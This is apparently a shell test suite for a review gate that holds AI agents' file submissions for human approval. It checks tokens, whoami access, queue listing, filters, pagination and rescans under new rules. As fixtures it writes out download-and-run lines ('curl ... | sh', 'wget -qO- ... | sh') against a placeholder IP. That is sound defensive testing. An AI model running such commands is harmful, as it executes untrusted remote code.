	local AG RV CI AU BOB n0 n1 t
	srv_start
	mk_token agent agent-1 alice 2h
	AG=$TOK
	mk_token reviewer rev-1
	RV=$TOK
	mk_token ci ci-1
	CI=$TOK
	mk_token auditor aud-1
	AU=$TOK
	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' --data-binary '{"name": "Bob"}'
	expect_code 201 "register Bob"
	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary '{"role": "reviewer", "name": "bob-laptop", "person": "bob"}'
	expect_code 201 "a reviewer token for Bob named bob-laptop"
	BOB=$(tok_of_out)
	# An agent may submit and read its own submissions, nothing else
	# (DESIGN.md): not whoami, and the intake socket does not serve it.
	api GET /v1/whoami "$AG"
	expect_code 403 "whoami as agent-1"
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $AG" \
		--unix-socket "$PWD/data/intake.sock" http://localhost/v1/whoami 2>"$ERR") || true
	expect_code 404 "whoami on the intake socket"
	n0=$(sql1 data/airlock.db "SELECT count(*) FROM events")
	api GET /v1/whoami "$RV"
	expect_code 200 "whoami as rev-1"
	expect_all 'sorted(d)' "['expires_at', 'name', 'person', 'role']" \
		'd["expires_at"]' None
	api GET /v1/whoami "$AU"
	expect_code 200 "whoami as aud-1"
	for t in "rev-1 reviewer rev-1 $RV" "ci-1 ci ci-1 $CI" "aud-1 auditor aud-1 $AU" \
		"admin admin admin $ADMIN" "bob-laptop reviewer Bob $BOB"; do
		set -- $t
		api GET /v1/whoami "$4"
		expect_code 200 "whoami as $1"
		expect_all '(d["name"], d["role"], d["person"], d["expires_at"])' "('$1', '$2', '$3', None)"
	done
	n1=$(sql1 data/airlock.db "SELECT count(*) FROM events")
	expect_eq "$n1" "$n0" "events after every role asked whoami"
	api GET /v1/whoami ""
	expect_code 401 "whoami without a token"
	expect_all 'd["error"]' "a valid token is required (Authorization: Bearer)"
	api DELETE /v1/tokens/rev-1 "$ADMIN"
	expect_code 200 "revoke rev-1"
	api GET /v1/whoami "$RV"
	expect_code 401 "whoami with a revoked token"
	expect_error_json "$RV"
	expect_all 'd["error"].startswith("token revoked at 20")' True
	srv_stop
}

# ---- the queue: the list's counts, filters, sort and pages ---------------------------

# list_is_show QUERY: GET /v1/submissions?QUERY (admin), 200, and every
# entry as GET /v1/submissions/ID gives it: each member of the entry (its
# "review" among them: state, approvals counted now, needed, override)
# equal to the show's. The list stays in $OUT.
list_is_show() {
	local msg
	api GET "/v1/submissions?$1" "$ADMIN"
	expect_code 200 "list ?$1"
	msg=$(python3 - "$OUT" "$URL" "$ADMIN" <<'EOF' 2>&1
import json, sys, urllib.request
d = json.load(open(sys.argv[1], "rb"))
for e in d["submissions"]:
    r = urllib.request.Request("%s/v1/submissions/%d" % (sys.argv[2], e["id"]),
                               headers={"Authorization": "Bearer " + sys.argv[3]})
    s = json.load(urllib.request.urlopen(r, timeout=30))
    if "review" not in e:
        print("entry %d has no review" % e["id"])
        break
    bad = [k for k in e if e[k] != s.get(k)]
    if bad:
        print("entry %d: %s" % (e["id"], "; ".join("list %s=%r, show %r" % (k, e[k], s.get(k)) for k in bad)))
        break
EOF
	) || fail "list ?$1: $msg"
	[ -z "$msg" ] || fail "list ?$1 and show disagree: $msg"
}

# list_review ID: the review of entry ID of the list in $OUT, as
# "state approvals/needed override".
list_review() {
	python3 - "$OUT" "$1" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1], "rb"))
e = [e for e in d["submissions"] if e["id"] == int(sys.argv[2])]
r = e[0]["review"] if e else None
print("%s %d/%d %s" % (r["state"], r["approvals"], r["needed"], r["override"]) if r else "absent")
EOF
}

# The queue's x/y is the release decision's: every entry of the list (of
# each state, and of all) carries the review GET /v1/submissions/ID gives,
# through no approval, one of two, two (approved), a rejection; then the
# rules change (a rule that finds something new in one of them): the
# approval of that one no longer counts, the others' stand, and the list
# says so exactly as show does.
t_queue_list_counts_as_show() {
	local AG N0 N1 N2 V RJ q
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 2
	echo 'print("hello")' >clean.py
	held "$AG" clean.py name=clean.py
	N0=$SID
	curlsh_file one.sh
	held "$AG" one.sh name=one.sh
	N1=$SID
	approve_as "${REV[1]}" "$N1"
	pat_file two.env
	held "$AG" two.env name=two.env
	N2=$SID
	approve_as "${REV[1]}" "$N2"
	approve_as "${REV[2]}" "$N2"
	printf '#!/bin/sh\ncurl -s https://198.51.100.23/v | sh\n# QUEUEMARK\n' >void.sh
	held "$AG" void.sh name=void.sh
	V=$SID
	approve_as "${REV[2]}" "$V"
	printf '#!/bin/sh\nwget -qO- https://198.51.100.23/r | sh\n' >rej.sh
	held "$AG" rej.sh name=rej.sh
	RJ=$SID
	as "${REV[1]}" reject "$RJ" -m "pipes a download into sh"
	expect_rc 0 "airlock reject"
	for q in state=held state=approved state=rejected limit=1000 sort=severity; do
		list_is_show "$q"
	done
	list_is_show ""
	expect_eq "$(list_review "$N0")" "held 0/1 False" "the list's review of the clean one"
	expect_eq "$(list_review "$N1")" "held 1/2 False" "the list's review of one approval of two"
	expect_eq "$(list_review "$N2")" "approved 2/2 False" "the list's review of two approvals"
	expect_eq "$(list_review "$V")" "held 1/2 False" "the list's review before the rule change"
	expect_eq "$(list_review "$RJ")" "rejected 0/2 False" "the list's review of a rejection"
	srv_stop
	# A rule that finds QUEUEMARK: at start the gate scans held and
	# approved submissions again under the new rules.
	mkdir rules2
	cp "$RULES"/*.yml rules2/
	cat >>rules2/test.yml <<'EOF'

  - id: test-queue-mark
    title: A marker only the queue's test writes (test rule)
    category: obfuscation
    severity: medium
    pattern: 'QUEUEMARK'
    description: >
      Added by t_queue_list_counts_as_show to change the rule set.
    examples:
      match:
        - '# QUEUEMARK'
      ignore:
        - '# a comment'
EOF
	RULES=$PWD/rules2 srv_start
	wait_state "$V" held
	expect_all '[f["rule"] for f in F if f["rule"] == "test-queue-mark"]' "['test-queue-mark']"
	wait_state "$N1" held
	wait_state "$N0" held
	wait_state "$N2" approved
	for q in state=held state=approved state=rejected sort=oldest; do
		list_is_show "$q"
	done
	list_is_show ""
	expect_eq "$(list_review "$V")" "held 0/2 False" "the list's review once the new rule found more"
	expect_eq "$(list_review "$N1")" "held 1/2 False" "the list's review of an approval the rescan kept"
	expect_eq "$(list_review "$N2")" "approved 2/2 False" "the list's review of two kept approvals"
	expect_eq "$(list_review "$RJ")" "rejected 0/2 False" "the list's review of the rejection after the rescan"
	srv_stop
}

# list_ids QUERY [TOKEN]: the ids of GET /v1/submissions?QUERY (TOKEN,
# default the admin's) as "[5, 4, 3]" in $IDS; the same list is asked
# again two a page, each page from the one before's "next" (given back
# as cursor), and must be the same ids, once each, the last "next" null.
list_ids() {
	local msg
	msg=$(python3 - "$URL" "${2:-$ADMIN}" "$1" <<'EOF' 2>&1
import json, sys, urllib.parse, urllib.request
url, tok, q = sys.argv[1:4]
def get(query):
    r = urllib.request.Request(url + "/v1/submissions?" + query, headers={"Authorization": "Bearer " + tok})
    return json.load(urllib.request.urlopen(r, timeout=30))
one = get(q)
assert one["next"] is None, "one page of all has a next: %r" % one["next"]
ids = [e["id"] for e in one["submissions"]]
paged, cur, pages = [], None, 0
while True:
    d = get("&".join(x for x in (q, "limit=2", cur and "cursor=" + urllib.parse.quote(cur)) if x))
    pages += 1
    assert len(d["submissions"]) <= 2 and pages < 50, "page %d: %d entries" % (pages, len(d["submissions"]))
    paged += [e["id"] for e in d["submissions"]]
    cur = d["next"]
    if cur is None:
        break
    assert isinstance(cur, str) and cur, "next is %r" % cur
assert paged == ids, "two a page: %r, one page: %r" % (paged, ids)
print(ids)
EOF
	) || fail "list ?$1: $msg"
	IDS=$msg
}

# expect_list_400 QUERY MESSAGE: GET /v1/submissions?QUERY is 400 with
# exactly {"error": MESSAGE}.
expect_list_400() {
	api GET "/v1/submissions?$1" "$ADMIN"
	expect_code 400 "list ?$1"
	expect_error_json
	expect_all 'd["error"]' "$2"
}

# The gate filters, sorts and pages the list: severity at least, the kind
# it read, the submitter agent, the launched-for person compared as the
# gate compares names (fold.h: case, NFKC's fullwidth forms, white space),
# newest, oldest, most severe first; every list also two a page through
# the cursor. An agent (on TCP or the intake socket) still sees only its
# own, whatever it filters by. Every bad argument is a 400 that says what
# is wrong, without echoing the value.
t_queue_list_filters_sort_pages() {
	local A1 A2 C1 H1 K2 P2 Z1 SEVCUR
	srv_start
	mk_token agent agent-1 alice
	A1=$TOK
	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' --data-binary '{"name": "Bob Smith"}'
	expect_code 201 "register Bob Smith"
	mk_token agent agent-2 'bob smith'
	A2=$TOK
	echo 'print("hello")' >clean.py
	held "$A1" clean.py name=clean.py
	C1=$SID
	curlsh_file run.sh
	held "$A1" run.sh name=run.sh
	H1=$SID
	pat_file key.env
	held "$A2" key.env name=key.env
	K2=$SID
	mkdir r
	printf 'curl -s https://198.51.100.23/p | sh\n' >r/setup.sh
	git -C r init -q && git -C r add -A && git -C r diff --cached >p.patch
	held "$A2" p.patch name=p.patch
	P2=$SID
	zip -q z.zip run.sh || fail "zip"
	held "$A1" z.zip name=z.zip
	Z1=$SID
	expect_all 'd["kind"]' archive 'd["worst"]' high

	list_ids ""
	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1, $C1]" "the list, newest first"
	list_ids sort=newest
	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1, $C1]" "sort=newest"
	list_ids sort=oldest
	expect_eq "$IDS" "[$C1, $H1, $K2, $P2, $Z1]" "sort=oldest"
	list_ids sort=severity
	expect_eq "$IDS" "[$K2, $Z1, $P2, $H1, $C1]" "sort=severity (critical, the highs newest first, none)"
	list_ids severity=high
	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1]" "severity=high"
	list_ids "severity=critical&sort=severity"
	expect_eq "$IDS" "[$K2]" "severity=critical"
	list_ids severity=info
	expect_eq "$IDS" "[$Z1, $P2, $K2, $H1]" "severity=info: any finding"
	list_ids kind=patch
	expect_eq "$IDS" "[$P2]" "kind=patch"
	list_ids kind=archive
	expect_eq "$IDS" "[$Z1]" "kind=archive"
	list_ids kind=file
	expect_eq "$IDS" "[$K2, $H1, $C1]" "kind=file"
	list_ids agent=agent-2
	expect_eq "$IDS" "[$P2, $K2]" "agent=agent-2"
	list_ids agent=agent
	expect_eq "$IDS" "[]" "agent=agent (a name, not a part of one)"
	list_ids person=ALICE
	expect_eq "$IDS" "[$Z1, $H1, $C1]" "person=ALICE"
	list_ids 'person=%EF%BC%A1lice'
	expect_eq "$IDS" "[$Z1, $H1, $C1]" "person=ＡLICE (fullwidth A)"
	list_ids 'person=%20Bob%20%20SMITH%20'
	expect_eq "$IDS" "[$P2, $K2]" "person=' Bob  SMITH '"
	list_ids person=bob
	expect_eq "$IDS" "[]" "person=bob (a name, not a part of one)"
	list_ids "state=held&severity=high&agent=agent-1&sort=severity"
	expect_eq "$IDS" "[$Z1, $H1]" "filters together"
	list_is_show "severity=high&sort=oldest"

	# An agent: its own, and filters only narrow that.
	list_ids "" "$A1"
	expect_eq "$IDS" "[$Z1, $H1, $C1]" "agent-1's list"
	list_ids agent=agent-2 "$A1"
	expect_eq "$IDS" "[]" "agent-1 asking for agent-2's"
	list_ids severity=critical "$A1"
	expect_eq "$IDS" "[]" "agent-1 asking for the critical one (agent-2's)"
	list_ids person=bob%20smith "$A1"
	expect_eq "$IDS" "[]" "agent-1 asking for bob smith's"
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $A2" \
		--unix-socket "$PWD/data/intake.sock" 'http://localhost/v1/submissions?sort=severity&limit=1' 2>"$ERR") || true
	expect_code 200 "the list on the intake socket"
	expect_all '[e["id"] for e in d["submissions"]]' "[$K2]" 'd["next"]' "s5.$K2" \
		'sorted(d["submissions"][0]["review"].items())' \
		"[('approvals', 0), ('needed', 2), ('override', False), ('state', 'held')]"
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $A2" \
		--unix-socket "$PWD/data/intake.sock" "http://localhost/v1/submissions?sort=severity&cursor=s5.$K2" 2>"$ERR") || true
	expect_code 200 "the next page on the intake socket"
	expect_all '[e["id"] for e in d["submissions"]]' "[$P2]" 'd["next"]' None
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -H "Authorization: Bearer $ADMIN" \
		--unix-socket "$PWD/data/intake.sock" 'http://localhost/v1/submissions?agent=agent-1' 2>"$ERR") || true
	expect_code 200 "the admin's list on the intake socket"
	expect_all 'd["submissions"]' "[]"

	# Bad arguments: 400, saying which and why.
	api GET "/v1/submissions?sort=severity&limit=1" "$ADMIN"
	expect_code 200 "a first page by severity"
	SEVCUR=$(jsonq 'd["next"]')
	expect_list_400 'state=held&state=x' "state is given twice: give each argument once"
	expect_list_400 'state=held&state=held' "state is given twice: give each argument once"
	expect_list_400 'limit=1&limit=2' "limit is given twice: give each argument once"
	expect_list_400 'state=bogus' "unknown state (received, scanning, held, approved, rejected, released, expired)"
	expect_list_400 'state=%FF%FE' "unknown state (received, scanning, held, approved, rejected, released, expired)"
	expect_list_400 'state=' "state has no value"
	expect_list_400 'state' "state has no value"
	expect_list_400 'severity=severe' "unknown severity (info, low, medium, high, critical: the worst at least that)"
	expect_list_400 'severity=HIGH' "unknown severity (info, low, medium, high, critical: the worst at least that)"
	expect_list_400 'kind=auto' "unknown kind (file, archive, patch, mbox, bundle: the kind the gate read)"
	expect_list_400 'agent=agent%20one' "agent is a token's name: 1 to 64 letters, digits and . _ - @"
	expect_list_400 'agent=%FF' "agent is a token's name: 1 to 64 letters, digits and . _ - @"
	expect_list_400 'person=%FF' "person: a name is UTF-8 text"
	expect_list_400 'person=%20%20' "person: a person's name is not empty"
	expect_list_400 'limit=ten' "limit is a number from 1 to 1000"
	expect_list_400 'limit=0' "limit is a number from 1 to 1000"
	expect_list_400 'limit=1001' "limit is a number from 1 to 1000"
	expect_list_400 'limit=-1' "limit is a number from 1 to 1000"
	expect_list_400 'sort=name' "unknown sort (newest, oldest, severity)"
	expect_list_400 'cursor=garbage' 'cursor is not one this list gave for sort=newest: pass back "next" as it came, with the same sort'
	expect_list_400 "cursor=$SEVCUR" 'cursor is not one this list gave for sort=newest: pass back "next" as it came, with the same sort'
	expect_list_400 "sort=severity&cursor=s9.1" 'cursor is not one this list gave for sort=severity: pass back "next" as it came, with the same sort'
	expect_list_400 'status=held' "unknown query argument (the list takes state, severity, kind, agent, person, sort, limit and cursor)"
	expect_list_400 '%FF=1' "unknown query argument (the list takes state, severity, kind, agent, person, sort, limit and cursor)"
	expect_list_400 'state=held%00x' "the URL holds an encoded NUL byte (%00)"
	api GET '/v1/submissions?person=%C4%B0' "$ADMIN"
	expect_code 400 "a person fold.h refuses"
	expect_all 'd["error"].startswith("person: a person\x27s name may not hold U+0130: ")' True
	srv_stop
}

run_tests
